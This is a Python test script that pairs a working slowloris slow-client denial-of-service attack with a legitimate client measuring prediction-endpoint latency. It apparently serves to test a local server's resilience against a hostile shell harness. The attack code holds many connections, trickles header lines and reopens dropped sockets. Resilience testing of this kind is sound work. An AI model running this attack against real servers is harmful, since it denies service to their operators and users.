#!/usr/bin/env python3
"""slowloris.py: a slow-client attack and a legitimate client's measure, for serve_hostile.sh.

  slowloris.py attack PORT --conns N --addrs 127.0.0.2-127.0.0.11 --every S --seconds T --ready FILE
      Holds N connections (spread over the source addresses) that each send a request
      line and then one header line every S seconds, never finishing the head; a
      connection the server closes is opened again after a short pause. Writes FILE
      once --hold connections were held at once (or after --ready-within seconds, default 20), then reports, on exit after T seconds, how many
      connections were opened, how many the server closed and the largest number held
      at once (JSON on stdout).
  slowloris.py legit URL --key K --body FILE --requests N [--timeout S]
      N predict requests one after another, each on a new connection from 127.0.0.1;
      prints JSON: successes (200 with a JSON answer holding predictions), the
      latencies' p50/p99/max in ms, and the failures by kind.
"""
import argparse
import asyncio
import http.client
import ipaddress
import json
import socket
import sys
import time


def addr_range(spec):
    a, _, b = spec.partition("-")
    lo, hi = int(ipaddress.IPv4Address(a)), int(ipaddress.IPv4Address(b or a))
    return [str(ipaddress.IPv4Address(i)) for i in range(lo, hi + 1)]


async def attacker(port, src, every, stop, st):
    while time.monotonic() < stop:
        st["attempts"] += 1
        w = None
        try:
            r, w = await asyncio.wait_for(
                asyncio.open_connection("127.0.0.1", port, local_addr=(src, 0)), timeout=5)
            st["opened"] += 1
            st["held"] += 1
            st["max_held"] = max(st["max_held"], st["held"])
            try:
                w.write(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
                await w.drain()
                n = 0
                while time.monotonic() < stop:
                    # the server closing shows as EOF (or a refusal's 503) while we wait
                    try:
                        got = await asyncio.wait_for(r.read(4096), timeout=every)
                    except asyncio.TimeoutError:
                        got = None
                    if got == b"":
                        st["closed_by_server"] += 1
                        break
                    if got:
                        st["answered"] += 1  # a 503 refusal, or anything else the server said
                        continue
                    n += 1
                    w.write(b"X-Slow-%d: %d\r\n" % (n, n))
                    await w.drain()
            finally:
                st["held"] -= 1
        except (OSError, asyncio.TimeoutError):
            st["errors"] += 1
        finally:
            if w is not None:
                w.close()
        await asyncio.sleep(0.2)  # then open it again


async def attack(a):
    srcs = addr_range(a.addrs)
    stop = time.monotonic() + a.seconds
    st = dict(attempts=0, opened=0, held=0, max_held=0, closed_by_server=0, answered=0, errors=0)
    tasks = []
    for i in range(a.conns):
        tasks.append(asyncio.create_task(attacker(a.port, srcs[i % len(srcs)], a.every, stop, st)))
        if i % 50 == 49:
            await asyncio.sleep(0.01)
    # ready once the server (or the address) is full, or after --ready-within seconds
    # whatever it holds
    t_ready = time.monotonic() + a.ready_within
    while st["max_held"] < a.hold and time.monotonic() < t_ready:
        await asyncio.sleep(0.1)
    await asyncio.sleep(0.5)
    with open(a.ready, "w") as f:
        f.write(json.dumps(st) + "\n")
    await asyncio.gather(*tasks, return_exceptions=True)
    print(json.dumps(st))


def legit(a):
    body = open(a.body, "rb").read()
    host, _, port = a.url.rpartition("/")[2].partition(":")
    lat, fails = [], {}
    for i in range(a.requests):
        t0 = time.monotonic()
        kind = None
        try:
            c = http.client.HTTPConnection(host, int(port), timeout=a.timeout)
            c.request("POST", "/v1/models/readmission/predict", body=body,
                      headers={"Authorization": f"Bearer {a.key}", "Content-Type": "application/json"})
            resp = c.getresponse()
            data = resp.read()
            c.close()
            if resp.status != 200:
                kind = f"status {resp.status}"
            elif not json.loads(data).get("predictions"):
                kind = "no predictions"
        except (OSError, http.client.HTTPException, ValueError) as e:
            kind = type(e).__name__
        dt = (time.monotonic() - t0) * 1000
        if kind:
            fails[kind] = fails.get(kind, 0) + 1
        else:
            lat.append(dt)
        time.sleep(a.pause)
    lat.sort()
    q = lambda p: round(lat[min(len(lat) - 1, int(p * len(lat)))], 2) if lat else None
    print(json.dumps(dict(requests=a.requests, successes=len(lat), p50_ms=q(0.5), p99_ms=q(0.99),
                          max_ms=round(lat[-1], 2) if lat else None, failures=fails)))


def main():
    ap = argparse.ArgumentParser()
    sub = ap.add_subparsers(dest="cmd", required=True)
    p = sub.add_parser("attack")
    p.add_argument("port", type=int)
    p.add_argument("--conns", type=int, default=1000)
    p.add_argument("--addrs", default="127.0.0.2-127.0.0.11")
    p.add_argument("--every", type=float, default=1.0)
    p.add_argument("--seconds", type=float, default=30)
    p.add_argument("--ready", required=True)
    p.add_argument("--hold", type=int, default=0, help="write --ready once this many are held at once")
    p.add_argument("--ready-within", type=float, default=20, help="or after this many seconds")
    p = sub.add_parser("legit")
    p.add_argument("url")
    p.add_argument("--key", required=True)
    p.add_argument("--body", required=True)
    p.add_argument("--requests", type=int, default=300)
    p.add_argument("--timeout", type=float, default=5)
    p.add_argument("--pause", type=float, default=0.01)
    a = ap.parse_args()
    if a.cmd == "attack":
        asyncio.run(attack(a))
    else:
        legit(a)


if __name__ == "__main__":
    main()
